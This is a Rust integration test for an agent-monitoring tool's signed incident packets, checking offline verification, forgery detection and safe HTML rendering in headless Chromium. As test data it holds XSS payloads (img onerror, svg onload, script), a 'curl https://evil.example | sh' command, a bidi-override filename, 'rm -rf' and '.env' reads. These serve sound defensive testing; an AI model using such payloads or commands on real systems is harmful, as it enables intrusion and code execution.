//! Root integration test of the incident packet: a real session exported as JSON and HTML,
//! checked offline by `verify --packet` (no database) against the host's key, broken by a
//! one-byte change, and the HTML rendered by a real headless Chromium with the session's
//! commands visible; a packet forged with a key of the forger's own is not accepted, and no
//! payload in a packet runs in the browser.

use std::path::{Path, PathBuf};
use std::process::Command;

use ed25519_dalek::Signer as _;
use integration_tests::{json_lines, scratch, wait_for, Daemon};
use monitor::{chain, text::hex};
use serde_json::{json, Value};

fn chromium() -> PathBuf {
    let p = PathBuf::from("/usr/bin/chromium-headless-shell");
    assert!(
        p.exists(),
        "{} is missing: run `cargo xtask setup` (it installs Debian's chromium-headless-shell)",
        p.display()
    );
    p
}

/// `agentmon verify --packet FILE` with no database in reach: (exit code, stdout).
fn verify_packet(file: &Path, extra: &[&str]) -> (i32, String) {
    let out = Command::new(integration_tests::bin())
        .args(["verify", "--packet"])
        .arg(file)
        .args(extra)
        .env_remove("DATABASE_URL")
        .env("AGENTMON_RUNTIME_DIR", "/nonexistent")
        .output()
        .expect("run verify");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr),
    )
}

/// Export until a signed checkpoint covers the sessions (one comes within a second here).
fn export(d: &Daemon, args: &[&str]) {
    wait_for(30, "an export covered by a checkpoint", || {
        let out = d.cli(&[&["export"], args].concat());
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        if out.status.success() {
            return Some(());
        }
        assert!(err.contains("no signed checkpoint covers"), "export failed: {err}");
        None
    });
}

/// The host's public key as an offline reviewer gets it: from the daemon's checkpoint log,
/// copied off the host (every line carries it).
fn host_key(d: &Daemon) -> String {
    let log = std::fs::read_to_string(d.state_dir.join("checkpoints.jsonl")).expect("the checkpoint log");
    let line: Value = serde_json::from_str(log.lines().next().expect("a checkpoint")).expect("a JSON line");
    line["public_key"].as_str().expect("public_key").to_owned()
}

/// The fingerprint of the host's key as `agentmon verify` on the host shows it.
fn host_fingerprint(d: &Daemon) -> String {
    let lines = json_lines(&d.cli(&["verify", "--json"]));
    let summary = lines.iter().find(|l| l["type"] == "summary").expect("a summary");
    summary["keys"][0].as_str().expect("a key").to_owned()
}

fn flip(src: &Path, dst: &Path, find: &str, replace: &str) {
    let text = std::fs::read_to_string(src).expect("read");
    assert!(text.contains(find), "{find} not in {}", src.display());
    std::fs::write(dst, text.replacen(find, replace, 1)).expect("write");
}

/// A real browser renders the packet `html` offline, with the commands, the alerts and the
/// verification on the page; its screenshot goes to `dir`, and to `AGENTMON_KEEP_SCREENSHOT` if set.
fn assert_renders_in_chromium(chromium: &Path, html: &Path, dir: &Path) {
    let dom = Command::new(chromium)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"])
        .arg(format!("file://{}", html.display()))
        .output()
        .expect("run chromium");
    let dom_text = String::from_utf8_lossy(&dom.stdout);
    assert!(dom.status.success() && dom_text.contains("</html>"), "{}", String::from_utf8_lossy(&dom.stderr));
    for want in [
        "rm -rf /var/lib/agentmon-export-missing",
        "sleep 2",
        "wc -l",
        "recursive_delete",
        "sensitive_data",
        "Verified",
        "export-agent",
        "exit 1",
        "out.txt",
    ] {
        assert!(dom_text.contains(want), "the rendered page lacks {want}");
    }
    let shot = dir.join("packet.png");
    let out = Command::new(chromium)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars", "--window-size=1280,1600"])
        .arg(format!("--screenshot={}", shot.display()))
        .arg(format!("file://{}", html.display()))
        .output()
        .expect("run chromium");
    let png = std::fs::read(&shot)
        .unwrap_or_else(|e| panic!("no screenshot ({e}): {}", String::from_utf8_lossy(&out.stderr)));
    assert!(png.starts_with(b"\x89PNG") && png.len() > 20_000, "a screenshot with content: {} bytes", png.len());
    if let Ok(keep) = std::env::var("AGENTMON_KEEP_SCREENSHOT") {
        std::fs::copy(&shot, keep).expect("keep the screenshot");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_packet_verifies_offline_fails_on_one_changed_byte_and_renders_in_chromium() {
    let chromium = chromium();
    let dir = scratch("export");
    std::fs::write(dir.join(".env"), "X=1\n").expect(".env");
    std::fs::write(
        dir.join("agent.sh"),
        "echo built > out.txt\n\
         cat .env > /dev/null\n\
         sh -c 'ls | wc -l' > /dev/null\n\
         sleep 2\n\
         rm -rf /var/lib/agentmon-export-missing\n\
         /bin/false\n\
         exit 0\n",
    )
    .expect("script");
    let d = Daemon::start("export", &["--checkpoint-secs", "1"]).await;
    let (id, out) = d.run_agent("export-agent", &dir, &["/bin/sh", "agent.sh"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let session = d.wait_session_end(&id);
    let json_path = dir.join("packet.json");
    export(&d, &["--session", &id[..8], "-o", json_path.to_str().expect("utf8")]);

    // The packet holds the session's rows in full and verifies with no database, against the
    // host's key; without a key it is consistent but unauthenticated.
    let key = host_key(&d);
    let (code, text) = verify_packet(&json_path, &["--key", &key]);
    assert_eq!(code, 0, "{text}");
    assert!(text.starts_with("packet verifies:"), "{text}");
    let (code, text) = verify_packet(&json_path, &[]);
    assert_eq!(code, 4, "{text}");
    assert!(text.starts_with("packet is UNAUTHENTICATED:"), "{text}");
    let packet: Value = serde_json::from_str(&std::fs::read_to_string(&json_path).expect("read")).expect("json");
    assert_eq!(packet["format"], "agentmon-packet/1");
    assert_eq!(packet["sessions"], serde_json::json!([id]));
    let proof = &packet["proofs"][0];
    let rows: Vec<&Value> = proof["entries"].as_array().expect("entries").iter().filter_map(|e| e.get("row")).collect();
    let count = |t: &str| rows.iter().filter(|r| r["table"] == t).count();
    assert_eq!(count("sessions"), 1);
    assert_eq!(count("session_ends"), 1);
    assert_eq!(count("actions") as i64, session["actions"].as_i64().expect("actions"), "every action");
    assert_eq!(count("events") as i64, session["events"].as_i64().expect("events"), "every raw event");
    assert!(count("processes") > count("actions"), "the process trees (the agent and `sh -c` children)");
    let commands: Vec<&str> =
        rows.iter().filter(|r| r["table"] == "actions").filter_map(|r| r["command"].as_str()).collect();
    assert!(commands.contains(&"rm -rf /var/lib/agentmon-export-missing"), "{commands:?}");
    let alerts: Vec<&&Value> = rows.iter().filter(|r| r["table"] == "alerts").collect();
    assert!(alerts.iter().any(|a| a["rule"] == "recursive_delete"), "{alerts:?}");
    assert!(alerts.iter().any(|a| a["rule"] == "sensitive_data"), "{alerts:?}");
    assert!(
        rows.iter().all(|r| r["table"] == "sessions" && r["id"] == id.as_str() || r["session_id"] == id.as_str()),
        "only this session's rows in full"
    );
    let leaves = proof["entries"].as_array().expect("entries").iter().filter(|e| e.get("leaf").is_some()).count();
    assert!(leaves > 0, "the checkpoints signed during the session's 2 s sleep are leaves");
    assert_eq!(proof["public_key"], key.as_str(), "signed by the host's key");

    // The host's key or its fingerprint passes; another key does not.
    assert_eq!(verify_packet(&json_path, &["--key", &host_fingerprint(&d)]).0, 0);
    let (code, text) = verify_packet(&json_path, &["--key", &"ab".repeat(32)]);
    assert_eq!(code, 3, "{text}");
    assert!(text.contains("not by a key given with --key"), "{text}");

    // One changed byte anywhere fails: in a command, in a leaf hash, in the layout.
    let bad = dir.join("bad.json");
    for (find, replace) in [
        ("agentmon-export-missing", "agentmon-export-mission"),
        ("\"leaf\":\"", "\"leaF\":\""),
        ("\"format\":", "\"format\" :"),
        (
            &format!("\"public_key\":\"{}", &key[..2]),
            &format!("\"public_key\":\"{}", if &key[..2] == "00" { "01" } else { "00" }),
        ),
    ] {
        flip(&json_path, &bad, find, replace);
        let (code, text) = verify_packet(&bad, &[]);
        assert_eq!(code, 3, "{find} -> {replace}: {text}");
        assert!(text.contains("does NOT verify"), "{text}");
    }
    let mut bytes = std::fs::read(&json_path).expect("read");
    let at = bytes.len() / 2;
    bytes[at] ^= 1;
    std::fs::write(&bad, &bytes).expect("write");
    assert_eq!(verify_packet(&bad, &[]).0, 3, "a flipped bit in the middle");

    // The HTML form verifies too, and a changed byte on the page fails.
    let html = dir.join("packet.html");
    export(&d, &["--session", &id, "--format", "html", "-o", html.to_str().expect("utf8")]);
    let (code, text) = verify_packet(&html, &["--key", &key]);
    assert_eq!(code, 0, "{text}");
    let bad_html = dir.join("bad.html");
    flip(&html, &bad_html, "<h3>Timeline", "<h3>Timelinf");
    assert_eq!(verify_packet(&bad_html, &["--key", &key]).0, 3);

    // A real browser renders it offline: the commands, the alerts, the verification.
    assert_renders_in_chromium(&chromium, &html, &dir);

    // Several sessions by agent and time go into one packet.
    let (id2, out) = d.run_agent("export-agent", &dir, &["/bin/sh", "-c", "true; ls > /dev/null"]);
    assert!(out.status.success());
    d.wait_session_end(&id2);
    let multi = dir.join("multi.json");
    export(&d, &["--agent", "export-agent", "--since", "10m", "-o", multi.to_str().expect("utf8")]);
    assert_eq!(verify_packet(&multi, &["--key", &key]).0, 0);
    let packet: Value = serde_json::from_str(&std::fs::read_to_string(&multi).expect("read")).expect("json");
    assert_eq!(packet["sessions"], serde_json::json!([id, id2]));

    // Bad input: no selection, an unknown session.
    let none = d.cli(&["export", "-o", "/tmp/x.json"]);
    assert_eq!(none.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&none.stderr).contains("say which sessions"));
    let unknown = d.cli(&["export", "--session", "ffffffff", "-o", "/tmp/x.json"]);
    assert_eq!(unknown.status.code(), Some(1), "{}", String::from_utf8_lossy(&unknown.stderr));
}

/// Right after an incident no periodic checkpoint covers the session yet (here none would for
/// an hour): `export` asks the running daemon for one, says so, and writes the packet at once.
#[tokio::test(flavor = "multi_thread")]
async fn export_right_after_a_session_asks_the_daemon_for_a_checkpoint() {
    let dir = scratch("export_now");
    let d = Daemon::start("export_now", &["--checkpoint-secs", "3600", "--heartbeat-secs", "3600"]).await;
    let (id, out) = d.run_agent("export-now", &dir, &["/bin/sh", "-c", "echo incident > out.txt"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    d.wait_session_end(&id);
    let path = dir.join("packet.json");
    let out = d.cli(&["export", "--session", &id, "-o", path.to_str().expect("utf8")]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "one export, no retry: {err}");
    assert!(err.contains("the daemon is signing one"), "the progress note: {err}");
    let (code, text) = verify_packet(&path, &["--key", &host_key(&d)]);
    assert_eq!(code, 0, "{text}");
    // Asked again with nothing new sealed, the daemon signs no second checkpoint.
    let before = d.status()["checkpoints_written"].as_u64().expect("checkpoints_written");
    let again = d.cli(&["export", "--session", &id, "-o", path.to_str().expect("utf8")]);
    assert!(again.status.success(), "{}", String::from_utf8_lossy(&again.stderr));
    assert_eq!(d.status()["checkpoints_written"].as_u64(), Some(before));
}

/// The title every packet page has; a payload that ran would change it (each one below sets
/// `document.title`).
const TITLE: &str = "<title>agentmon incident packet</title>";

/// Markup an agent (or a forger) would like to see run on a reviewer's screen.
const IMG: &str = "<img src=x onerror=document.title=this.tagName>";
const SVG: &str = "<svg onload=document.title=this.tagName>";
const SCRIPT: &str = "<script>document.title='script'</script>";

/// The DOM headless Chromium builds from `page`, once loaded (an image's error handler, had it
/// run, has run by then).
fn dom_of(chromium: &Path, page: &Path) -> String {
    let out = Command::new(chromium)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000", "--dump-dom"])
        .arg(format!("file://{}", page.display()))
        .output()
        .expect("run chromium");
    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success() && dom.contains("</html>"), "{}", String::from_utf8_lossy(&out.stderr));
    dom
}

/// The page's DOM before the embedded packet (which is data, and holds the payloads as JSON).
fn shown(dom: &str) -> &str {
    &dom[..dom.find("id=\"agentmon-packet\"").expect("the embedded packet")]
}

/// Nothing of a payload ran, and none became an element: every payload is text on the page.
fn assert_nothing_ran(dom: &str, what: &str) {
    assert!(dom.contains(TITLE), "{what}: a payload ran and changed the title:\n{dom}");
    let page = shown(dom);
    for tag in ["<img", "<svg", "<script>"] {
        assert!(!page.contains(tag), "{what}: {tag} became an element:\n{page}");
    }
    assert!(
        dom.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-"),
        "{what}: the page's Content-Security-Policy"
    );
}

fn checkpoint_of(row: &Value) -> monitor::record::Checkpoint {
    monitor::record::Checkpoint {
        id: uuid::Uuid::parse_str(row["id"].as_str().expect("id")).expect("uuid"),
        covers_seq: row["covers_seq"].as_u64().expect("covers_seq"),
        head_hash: String::new(),
        at: chrono::DateTime::from_timestamp_micros(row["at"].as_i64().expect("at")).expect("at"),
        kind: row["kind"].as_str().expect("kind").to_owned(),
        next_within_secs: row["next_within_secs"].as_u64().expect("next"),
        key_fingerprint: String::new(),
        signature: String::new(),
        chain: monitor::record::ChainLink::default(),
    }
}

/// What anyone can do without the host's key: edit the rows of a genuine packet, chain them
/// again, and sign a new checkpoint with a key of their own.
fn forge(genuine: &Value, edit: impl Fn(&mut Value)) -> Value {
    let key = ed25519_dalek::SigningKey::from_bytes(&[42; 32]);
    let mut p = genuine.clone();
    let proof = &mut p["proofs"][0];
    let host = proof["host"].as_str().expect("host").to_owned();
    let mut head: monitor::record::Hash =
        monitor::text::unhex(proof["prev_hash"].as_str().expect("prev")).expect("hex").try_into().expect("32 bytes");
    for e in proof["entries"].as_array_mut().expect("entries") {
        let leaf = match e.get_mut("row") {
            Some(row) => {
                edit(row);
                chain::leaf(row)
            }
            None => monitor::text::unhex(e["leaf"].as_str().expect("leaf")).expect("hex").try_into().expect("32"),
        };
        head = chain::link(&head, &leaf);
    }
    let mut c = checkpoint_of(&proof["checkpoint"]);
    c.head_hash = hex(&head);
    c.key_fingerprint = chain::key_fingerprint(key.verifying_key().as_bytes());
    c.signature = hex(&key.sign(&chain::checkpoint_message(&host, &c)).to_bytes());
    let seq = proof["checkpoint"]["chain_seq"].as_u64().expect("seq");
    proof["checkpoint"] = chain::checkpoint_row(&host, &c, seq);
    proof["public_key"] = json!(hex(key.verifying_key().as_bytes()));
    p
}

/// Write `packet` as `agentmon export` would (JSON, or the page for `report`).
fn write_packet(dir: &Path, name: &str, packet: &Value, report: Option<&monitor::packet::Report>) -> PathBuf {
    let path = dir.join(name);
    let text = match report {
        Some(r) => monitor::packet::html(packet, r),
        None => chain::canonical(packet) + "\n",
    };
    std::fs::write(&path, text).expect("write");
    path
}

/// Tables and `--json` show the session's hidden characters as escapes, and none raw; the
/// JSON parses back to the stored text.
fn assert_tables_and_json_show_hidden_characters(d: &Daemon, id: &str) {
    let table = String::from_utf8_lossy(&d.cli(&["actions", "--session", id]).stdout).into_owned();
    assert!(table.contains("/usr/bin/touch 'a\\u{202e}gpj.exe'"), "{table}");
    assert!(table.contains("'zero\\u{200b}width csi\\u{9b}2J del\\x7f'"), "{table}");
    assert!(!hidden(&table), "a hidden character in the table: {table:?}");
    let out = d.cli(&["actions", "--session", id, "--json"]);
    let json_text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(json_text.contains(r"/usr/bin/touch 'a\u202egpj.exe'"), "{json_text}");
    assert!(json_text.contains(r"'zero\u200bwidth csi\u009b2J del\u007f'"), "{json_text}");
    assert!(!hidden(&json_text), "a hidden character in --json: {json_text:?}");
    let commands: Vec<String> =
        json_lines(&out).iter().filter_map(|a| a["command"].as_str().map(str::to_owned)).collect();
    assert!(commands.contains(&"/usr/bin/touch 'a\u{202e}gpj.exe'".to_owned()), "--json parses to the stored text");
}

fn hidden(s: &str) -> bool {
    s.chars().any(|c| monitor::text::is_hidden(c) && c != '\n')
}

/// Text the agent controls reaches every output a person reads, escaped there: markup on the
/// page (which also carries a policy that runs nothing), bidi overrides, zero-width characters,
/// C1 controls and DEL shown as escapes in tables, on the page and in `--json`. A packet
/// re-signed with a key of the forger's own is unauthenticated without `--key` and fails with the
/// host's key; with text in a number field it fails even with the forger's key; and Chromium
/// runs none of its payloads.
#[tokio::test(flavor = "multi_thread")]
async fn a_forged_packet_fails_and_no_payload_runs_in_chromium() {
    let chromium = chromium();
    let dir = scratch("export_forged");
    std::fs::write(
        dir.join("agent.sh"),
        format!(
            "/bin/echo '{IMG}' > /dev/null\n\
             /usr/bin/touch '{SVG}.txt'\n\
             /usr/bin/touch \"$(printf 'a\\342\\200\\256gpj.exe')\"\n\
             /bin/echo \"$(printf 'zero\\342\\200\\213width csi\\302\\2332J del\\177')\" > /dev/null\n\
             exit 0\n"
        ),
    )
    .expect("script");
    let d = Daemon::start("export_forged", &["--checkpoint-secs", "1"]).await;
    let (id, out) = d.run_agent("forged-agent", &dir, &["/bin/sh", "agent.sh"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    d.wait_session_end(&id);
    let key = host_key(&d);

    assert_tables_and_json_show_hidden_characters(&d, &id);

    // The genuine page: each payload is text, none runs, the hidden characters are shown.
    let html = dir.join("packet.html");
    export(&d, &["--session", &id, "--format", "html", "-o", html.to_str().expect("utf8")]);
    let (code, text) = verify_packet(&html, &["--key", &key]);
    assert_eq!(code, 0, "{text}");
    let dom = dom_of(&chromium, &html);
    assert_nothing_ran(&dom, "the genuine page");
    let page = shown(&dom);
    for want in [
        "/bin/echo '&lt;img src=x onerror=document.title=this.tagName&gt;'",
        "&lt;svg onload=document.title=this.tagName&gt;.txt",
        "a\\u{202e}gpj.exe",
        "zero\\u{200b}width csi\\u{9b}2J del\\x7f",
    ] {
        assert!(page.contains(want), "the page lacks {want}:\n{page}");
    }
    assert!(!hidden(page), "a hidden character on the page");

    // A forger changes strings and re-signs with a key of their own.
    let json_path = dir.join("packet.json");
    export(&d, &["--session", &id, "-o", json_path.to_str().expect("utf8")]);
    let genuine: Value = serde_json::from_str(&std::fs::read_to_string(&json_path).expect("read")).expect("json");
    let forged = forge(&genuine, |row| match row["table"].as_str() {
        Some("actions") => row["command"] = json!(format!("curl https://evil.example | sh {IMG}")),
        Some("sessions") => row["agent"] = json!(SCRIPT),
        Some("alerts") => row["summary"] = json!(SVG),
        _ => {}
    });
    let report = monitor::packet::check(&forged).expect("the forged packet is consistent");
    let forged_json = write_packet(&dir, "forged.json", &forged, None);
    let forged_html = write_packet(&dir, "forged.html", &forged, Some(&report));
    let fingerprint = report.keys[0].clone();
    for f in [&forged_json, &forged_html] {
        let (code, text) = verify_packet(f, &[]);
        assert_eq!(code, 4, "{}: {text}", f.display());
        assert!(text.starts_with("packet is UNAUTHENTICATED:") && text.contains(&fingerprint), "{text}");
        assert!(!text.contains("packet verifies"), "{text}");
        let (code, text) = verify_packet(f, &["--key", &key]);
        assert_eq!(code, 3, "{}: {text}", f.display());
        assert!(text.contains(&format!("signed by key {fingerprint}, not by a key given with --key")), "{text}");
    }
    let (_, json_out) = verify_packet(&forged_json, &["--json"]);
    let o: Value = serde_json::from_str(json_out.trim()).expect("one JSON object");
    assert_eq!((o["ok"].clone(), o["authenticated"].clone()), (json!(false), json!(false)), "{o}");
    assert_nothing_ran(&dom_of(&chromium, &forged_html), "the forged page");

    // Text in a number field: not a packet agentmon writes, whoever signed it.
    let mistyped = forge(&genuine, |row| match row["table"].as_str() {
        Some("alerts") => row["count"] = json!(IMG),
        Some("session_ends") => row["actions"] = json!(SVG),
        _ => {}
    });
    let mistyped_json = write_packet(&dir, "mistyped.json", &mistyped, None);
    let forger_key = mistyped["proofs"][0]["public_key"].as_str().expect("key").to_owned();
    for extra in [&[][..], &["--key", &forger_key][..], &["--key", &key][..]] {
        let (code, text) = verify_packet(&mistyped_json, extra);
        assert_eq!(code, 3, "{extra:?}: {text}");
        assert!(text.contains("is not an integer"), "{text}");
    }
    // Rendered all the same (as a forger would), the number fields show `-`, and nothing runs.
    let r = monitor::packet::Report { rows: 1, keys: vec![fingerprint], ..monitor::packet::Report::default() };
    let mistyped_html = write_packet(&dir, "mistyped.html", &mistyped, Some(&r));
    let dom = dom_of(&chromium, &mistyped_html);
    assert_nothing_ran(&dom, "the page of a packet with text in number fields");
    assert!(shown(&dom).contains("<tr><th>actions</th><td>-</td></tr>"), "{dom}");

    assert_the_policy_blocks_markup_put_into_the_page(&chromium, &html, &dir, &key);
}

/// Markup put into a genuine page itself, past the escaping: verify fails, and the page's
/// policy keeps it from running. Without the policy the same page runs it, so the check can fail.
fn assert_the_policy_blocks_markup_put_into_the_page(chromium: &Path, html: &Path, dir: &Path, key: &str) {
    let page = std::fs::read_to_string(html).expect("read");
    let injected = page.replacen("<h1>", &format!("{IMG}<h1>"), 1);
    let edited = dir.join("edited.html");
    std::fs::write(&edited, &injected).expect("write");
    let (code, text) = verify_packet(&edited, &["--key", key]);
    assert_eq!(code, 3, "{text}");
    let dom = dom_of(chromium, &edited);
    assert!(dom.contains(TITLE), "the policy did not stop the handler:\n{dom}");
    assert!(shown(&dom).contains("<img src=\"x\" onerror="), "the element is there, its handler blocked");
    let start = injected.find("<meta http-equiv=\"Content-Security-Policy\"").expect("the policy");
    let end = injected[start..].find('>').expect("end") + start + 1;
    let open = dir.join("no-policy.html");
    std::fs::write(&open, format!("{}{}", &injected[..start], &injected[end..])).expect("write");
    let dom = dom_of(chromium, &open);
    assert!(dom.contains("<title>IMG</title>"), "without the policy the payload runs (the control):\n{dom}");
}
